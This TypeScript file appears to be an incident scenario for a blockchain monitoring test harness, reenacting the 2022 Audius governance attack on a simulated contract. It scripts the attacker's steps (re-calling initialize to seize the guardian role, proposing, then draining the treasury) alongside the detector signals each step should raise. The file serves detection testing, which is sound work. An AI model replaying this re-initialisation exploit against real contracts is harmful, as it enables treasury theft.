import type { Incident } from "../../scene.ts";

const unit = 10n ** 18n;

/** The governance contract is initialised again: the attacker is its guardian, votes take three blocks, and one pays it. */
export const governanceReopened: Incident = {
  name: "Governance initialised again by a stranger (Audius, July 2022)",
  covers: ["G2", "G11"],
  async setUp({ chain, users, deployer, attacker, coin, fund }) {
    const token = await coin("AUDIO", 18, 1_000_000_000);
    const governance = await chain.deploy("ReopenedGovernance");
    await fund(token, 100_000n * unit, governance);
    await chain.run(
      governance.call(deployer, "initialize", [token.address, 259_200n, 86_400n, 5n, deployer]),
      token.call(deployer, "transfer", [governance.address, 18_000_000n * unit]),
      governance.call(deployer, "submitProposal", ["Fees"]),
    );
    const critical = { on: "governance", severity: "critical" } as const;
    return {
      watched: { governance: governance.address },
      traffic: ({ times, pick, amount }) => [
        ...Array.from({ length: times(30) }, () =>
          governance.call(pick(users), "submitVote", [1n, amount(1_000n * unit)]),
        ),
        ...Array.from({ length: times(20) }, () =>
          governance.call(deployer, "grant", [pick(users), amount(3_000n * unit)]),
        ),
      ],
      attack: [
        {
          at: 0,
          send: () => [governance.call(attacker, "initialize", [token.address, 3n, 0n, 1n, attacker])],
          signals: [
            { ...critical, what: "guardian replaced", by: ["configuration_change", "ownership_change"] },
          ],
        },
        {
          at: 12,
          send: () => [governance.call(attacker, "submitProposal", ["Hello"])],
          signals: [
            {
              on: "governance",
              severity: "warning",
              what: "proposal of a stranger",
              by: ["governance_proposal", "rare_event", "configuration_change"],
            },
          ],
        },
        {
          at: 48,
          send: () => [
            governance.call(attacker, "evaluateProposalOutcome", [2n, attacker, 17_000_000n * unit]),
          ],
          signals: [{ ...critical, what: "treasury drained", by: ["token_balance"] }],
        },
      ],
    };
  },
};
